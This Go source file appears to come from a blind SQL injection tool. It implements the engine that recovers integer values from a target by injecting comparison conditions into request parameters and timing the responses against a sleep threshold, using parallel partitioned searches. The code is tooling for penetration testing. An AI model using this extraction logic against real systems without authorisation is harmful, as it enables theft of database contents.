package engine

import (
	"context"
	"log/slog"
	"strconv"
	"sync"

	"github.com/0x6d61/sqldrip/internal/payload"
	"github.com/0x6d61/sqldrip/internal/transport"
)

// reducedRange is the outcome of one ternary probe over a partition.
//
// absent means the target answered "no" to all three comparisons: the
// value is not in any range. hasLo/hasHi mark which endpoints the probe
// could pin down; neither set means the probe was contradictory and the
// round carries no information. Both set and equal means the value was
// found.
type reducedRange struct {
	lo, hi       int
	hasLo, hasHi bool
	absent       bool
}

// found reports whether the probe located the value exactly.
func (r reducedRange) found() bool {
	return r.hasLo && r.hasHi && r.lo == r.hi
}

// reduceRange tries to shrink [lo, hi] with one ternary probe. The
// payload template must still carry its {condition} and {value}
// placeholders. Three requests, one per comparison against the midpoint
// (=, >, <), are dispatched concurrently; the response-time vector is
// classified against the sleep threshold.
//
// The positional indexing of the three predicates into the returned
// latency vector relies on ResponseTimes preserving input order.
func (e *Engine) reduceRange(ctx context.Context, defaultRequest *transport.Request, param string, lo, hi int, sqliPayload string, innerThreads int) (reducedRange, error) {
	sleepMS, err := e.builder.SleepTime(ctx, defaultRequest)
	if err != nil {
		return reducedRange{}, err
	}

	mid := lo + (hi-lo)/2
	// Promote the midpoint so the upper endpoint gets tested.
	promoted := false
	if mid == lo && lo < hi {
		mid = hi
		promoted = true
	}
	slog.Debug("reducing range", "lo", lo, "mid", mid, "hi", hi)

	conditions := [3]string{"=", ">", "<"}
	requests := make([]*transport.Request, 0, len(conditions))
	for _, cond := range conditions {
		params := make(map[string]string, len(e.params))
		for k, v := range e.params {
			params[k] = v
		}
		params[param] = payload.Render(sqliPayload,
			payload.PlaceholderCondition, cond,
			payload.PlaceholderValue, strconv.Itoa(mid))
		requests = append(requests, defaultRequest.Clone().SetParams(params))
	}

	times, err := e.target.ResponseTimes(ctx, requests, e.opts.MaxInterval, innerThreads)
	if err != nil {
		return reducedRange{}, err
	}
	slog.Debug("partition response times", "lo", lo, "mid", mid, "hi", hi, "times_ms", times, "sleep_ms", sleepMS)

	slept := 0
	for _, t := range times {
		if t >= sleepMS {
			slept++
		}
	}

	switch {
	case slept > 1:
		// Two or more conditions are contradicting; no information this
		// round.
		return reducedRange{}, nil
	case slept == 0:
		// No condition is satisfied: the value is not in any range.
		return reducedRange{absent: true}, nil
	case times[0] >= sleepMS:
		return reducedRange{lo: mid, hi: mid, hasLo: true, hasHi: true}, nil
	case times[1] >= sleepMS:
		return reducedRange{lo: mid, hasLo: true}, nil
	case times[2] >= sleepMS:
		if promoted {
			// The midpoint is the upper endpoint here, so "below mid"
			// must exclude it or a two-value range would never shrink.
			return reducedRange{hi: mid - 1, hasHi: true}, nil
		}
		return reducedRange{hi: mid, hasHi: true}, nil
	}
	// Unreachable by construction (exactly one fired and was matched
	// above), but stated explicitly: treat as no information.
	return reducedRange{}, nil
}

// getValue locates an integer in [lo, hi] through the sleep oracle, or
// reports that the range holds no value. The thread budget is split into
// a reserved inner share for each probe's three requests and an outer
// partition count; each round the remaining range is cut into contiguous
// partitions probed concurrently, and the reduced bounds are merged with
// max/min. A contradictory probe leaves the bounds unchanged, so noise is
// absorbed by simply re-probing the same range next round.
func (e *Engine) getValue(ctx context.Context, defaultRequest *transport.Request, param string, lo, hi int, sqliPayload string) (int, bool, error) {
	innerThreads := 1
	if e.opts.MaxThreads >= 4 {
		innerThreads = 3
	}
	partitionCount := e.opts.MaxThreads - innerThreads
	if partitionCount < 1 {
		partitionCount = 1
	}
	slog.Debug("value search", "lo", lo, "hi", hi, "partitions", partitionCount, "inner_threads", innerThreads)

	for nValues := hi - lo + 1; nValues > 0; nValues = hi - lo + 1 {
		if err := ctx.Err(); err != nil {
			return 0, false, err
		}

		type partition struct{ lo, hi int }
		partitionSize := nValues / partitionCount
		partitions := make([]partition, 0, partitionCount)
		for i := 0; i < partitionCount; i++ {
			pLo := lo + partitionSize*i
			pHi := pLo + partitionSize - 1
			if pHi < 0 {
				pHi = 0
			}
			if i == partitionCount-1 {
				pHi += nValues - partitionSize*partitionCount
			}
			partitions = append(partitions, partition{lo: pLo, hi: pHi})
		}
		slog.Debug("probing partitions", "range_lo", lo, "range_hi", hi, "partitions", len(partitions))

		reduced := make([]reducedRange, len(partitions))
		errs := make([]error, len(partitions))
		var wg sync.WaitGroup
		for i, p := range partitions {
			wg.Add(1)
			go func(i int, p partition) {
				defer wg.Done()
				reduced[i], errs[i] = e.reduceRange(ctx, defaultRequest, param, p.lo, p.hi, sqliPayload, innerThreads)
			}(i, p)
		}
		wg.Wait()

		for _, err := range errs {
			if err != nil {
				return 0, false, err
			}
		}

		for _, r := range reduced {
			if r.absent {
				slog.Debug("value not in range", "lo", lo, "hi", hi)
				return 0, false, nil
			}
			if r.found() {
				slog.Debug("value found", "value", r.lo)
				return r.lo, true, nil
			}
		}

		// Merge the reduced ranges.
		for _, r := range reduced {
			if r.hasLo && r.lo > lo {
				lo = r.lo
			}
			if r.hasHi && r.hi < hi {
				hi = r.hi
			}
		}
	}

	return 0, false, nil
}
